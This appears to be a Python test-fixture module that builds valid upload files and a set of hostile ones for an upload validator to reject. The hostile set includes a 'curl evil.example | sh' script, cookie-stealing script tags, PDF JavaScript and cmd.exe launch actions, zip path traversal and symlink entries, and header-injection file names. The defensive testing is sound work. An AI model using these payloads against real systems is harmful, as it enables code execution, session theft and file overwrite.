"""Files for the magnet tests, made in code: good ones of every accepted type, and hostile ones.

Each hostile sample is a real trick (polyglot, traversal, disguised program), not random
bytes, so a regression in one structural check shows up as one named failing case.
"""

from __future__ import annotations

import io
import struct
import zipfile

from magnets.demo import cover_png, guide_pdf

PDF = guide_pdf()
PNG = cover_png(40, 20)


def zip_bytes(members: dict[str, bytes], first: tuple[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        if first:
            archive.writestr(zipfile.ZipInfo(first[0]), first[1])  # stored, like EPUB wants
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def ooxml(part: str, extra: dict[str, bytes] | None = None) -> bytes:
    return zip_bytes(
        {"[Content_Types].xml": b"<Types/>", "_rels/.rels": b"<Relationships/>", part: b"<x/>"}
        | (extra or {})
    )


EPUB = zip_bytes(
    {"META-INF/container.xml": b"<container/>", "OEBPS/book.xhtml": b"<html/>"},
    first=("mimetype", b"application/epub+zip"),
)
DOCX = ooxml("word/document.xml")
XLSX = ooxml("xl/workbook.xml")
PPTX = ooxml("ppt/presentation.xml")
ZIP = zip_bytes({"checklist/readme.txt": b"Read me", "checklist/sheet.csv": b"a,b\n1,2\n"})
JPEG = (
    b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    + b"\x00" * 64
    + (b"\xff\xd9")
)
_VP8 = b"VP8 " + struct.pack("<I", 10) + b"\x00" * 10
WEBP = b"RIFF" + struct.pack("<I", 4 + len(_VP8)) + b"WEBP" + _VP8

GOOD_MAGNETS = {
    "guide.pdf": (PDF, "application/pdf"),
    "book.epub": (EPUB, "application/epub+zip"),
    "letter.docx": (
        DOCX,
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    ),
    "sheet.xlsx": (XLSX, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    "deck.pptx": (
        PPTX,
        "application/vnd.openxmlformats-officedocument.presentationml.presentation",
    ),
    "checklist.zip": (ZIP, "application/zip"),
}
GOOD_COVERS = {"cover.png": (PNG, "image/png"), "cover.jpg": (JPEG, "image/jpeg")}
GOOD_COVERS["cover.webp"] = (WEBP, "image/webp")


def _symlink_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        link = zipfile.ZipInfo("passwd")
        link.create_system = 3
        link.external_attr = (0o120777 << 16) | 0
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


def _encrypted_zip() -> bytes:
    # zipfile cannot encrypt; set the "encrypted" flag in both headers as an encrypting tool would.
    data = bytearray(zip_bytes({"secret.txt": b"hidden"}))
    data[6] |= 0x1
    central = data.rfind(b"PK\x01\x02")
    data[central + 8] |= 0x1
    return bytes(data)


def _pdf_with(insert: bytes) -> bytes:
    return PDF.replace(b"<< /Type /Catalog", b"<< /Type /Catalog " + insert, 1)


HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg">'
    b"<script>alert(1)</script></svg>"
)
# A PDF comment line of filler: what follows lies past the first 4 KB the start check reads.
_FILLER = b"%" + b"p" * 5000 + b"\n"
# Markup anywhere in a PDF (after %%EOF, past the first 4 KB), in upper or lower case.
PDF_HTML_AFTER_EOF = (
    PDF[:15] + _FILLER + PDF[15:] + b"<html><script>alert(document.cookie)</script></html>\n"
)
PDF_SCRIPT_AT_5000 = PDF[:15] + _FILLER + b"<SCRIPT>alert(1)</SCRIPT>\n" + PDF[15:]
PDF_DOCTYPE_DEEP = PDF[:15] + _FILLER + b"<!DOCTYPE html>\n" + PDF[15:]
PDF_SVG_DEEP = PDF[:15] + _FILLER + b'<svg xmlns="http://www.w3.org/2000/svg"/>\n' + PDF[15:]
PDF_IFRAME_DEEP = PDF[:15] + _FILLER + b"<iframe src=//evil.example></iframe>\n" + PDF[15:]
PDF_JAVASCRIPT_URL = PDF[:15] + _FILLER + b"(JavaScript:alert(1))\n" + PDF[15:]
# A PNG with a text chunk holding a script past the first 4 KB (the CRC is not checked).
_TEXT = b"Comment\x00" + b"x" * 5000 + b"<script>alert(1)</script>"
PNG_SCRIPT_DEEP = (
    PNG[:33] + struct.pack(">I", len(_TEXT)) + b"tEXt" + _TEXT + b"\0\0\0\0" + PNG[33:]
)
# name -> (content, purpose): every one must be refused with a 4xx and leave nothing stored.
HOSTILE_MAGNETS: dict[str, tuple[str, bytes]] = {
    "html-as-pdf": ("guide.pdf", HTML),
    "svg": ("image.svg", SVG),
    "svg-behind-bom-and-space": ("guide.pdf", b"\xef\xbb\xbf  \n" + SVG),
    "windows-program": ("guide.pdf", b"MZ\x90\x00\x03" + b"\x00" * 200),
    "linux-program": ("guide.pdf", b"\x7fELF\x02\x01\x01" + b"\x00" * 200),
    "shell-script": ("guide.pdf", b"#!/bin/sh\ncurl evil.example | sh\n"),
    "plain-text": ("notes.txt", b"just some text\n"),
    "html-then-zip": ("pack.zip", HTML + ZIP),
    "script-then-pdf": ("guide.pdf", b"<script>alert(1)</script>\n" + PDF),
    "pdf-then-zip": ("guide.pdf", PDF + ZIP),
    "pdf-with-html-near-start": ("guide.pdf", PDF[:15] + b"<html><script>x()</script>" + PDF[15:]),
    "pdf-with-html-after-eof": ("guide.pdf", PDF_HTML_AFTER_EOF),
    "pdf-with-script-at-5000": ("guide.pdf", PDF_SCRIPT_AT_5000),
    "pdf-with-doctype-deep": ("guide.pdf", PDF_DOCTYPE_DEEP),
    "pdf-with-svg-deep": ("guide.pdf", PDF_SVG_DEEP),
    "pdf-with-iframe-deep": ("guide.pdf", PDF_IFRAME_DEEP),
    "pdf-with-javascript-url": ("guide.pdf", PDF_JAVASCRIPT_URL),
    "pdf-javascript": (
        "guide.pdf",
        _pdf_with(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    ),
    "pdf-launch": ("guide.pdf", _pdf_with(b"/OpenAction << /S /Launch /F (cmd.exe) >>")),
    "pdf-truncated": ("guide.pdf", PDF[: len(PDF) // 2]),
    "zip-with-program": ("pack.zip", zip_bytes({"setup.exe": b"MZ" + b"\x00" * 64})),
    "zip-with-disguised-program": ("pack.zip", zip_bytes({"readme.txt": b"MZ\x90\x00" * 16})),
    "zip-with-script": ("pack.zip", zip_bytes({"install.sh": b"#!/bin/sh\n"})),
    "zip-traversal": ("pack.zip", zip_bytes({"../../etc/cron.d/evil": b"* * * * * root x"})),
    "zip-absolute-path": ("pack.zip", zip_bytes({"/etc/passwd": b"root:x:0:0"})),
    "zip-windows-path": ("pack.zip", zip_bytes({"..\\..\\evil.txt": b"x"})),
    "zip-symlink": ("pack.zip", _symlink_zip()),
    "zip-encrypted": ("pack.zip", _encrypted_zip()),
    "zip-with-data-before": ("pack.zip", b"GARBAGE!" + ZIP),
    "docx-with-macros": ("letter.docx", ooxml("word/document.xml", {"word/vbaProject.bin": b"x"})),
    "office-unknown-layout": ("thing.docx", ooxml("visio/document.xml")),
    "empty": ("guide.pdf", b""),
    "traversal-name": ("../../guide.pdf", PDF),
    "folder-name": ("reports/guide.pdf", PDF),
    "control-character-name": ("guide\x00.pdf", PDF),
    "newline-name": ("guide\r\nX-Evil: 1.pdf", PDF),
    "bidi-override-name": ("report\u202efdp.exe", PDF),
    "hidden-name": (".htaccess", PDF),
}
HOSTILE_COVERS: dict[str, tuple[str, bytes]] = {
    "svg-cover": ("cover.svg", SVG),
    "pdf-as-cover": ("cover.png", PDF),
    "png-then-zip": ("cover.png", PNG + ZIP),
    "png-truncated": ("cover.png", PNG[:-12]),
    "png-with-script-near-start": ("cover.png", PNG[:33] + b"<script>alert(1)</script>" + PNG[33:]),
    "png-with-script-deep": ("cover.png", PNG_SCRIPT_DEEP),
    "jpeg-with-trailer": ("cover.jpg", JPEG + HTML),
    "webp-with-appended-data": ("cover.webp", WEBP + b"<html>"),
}
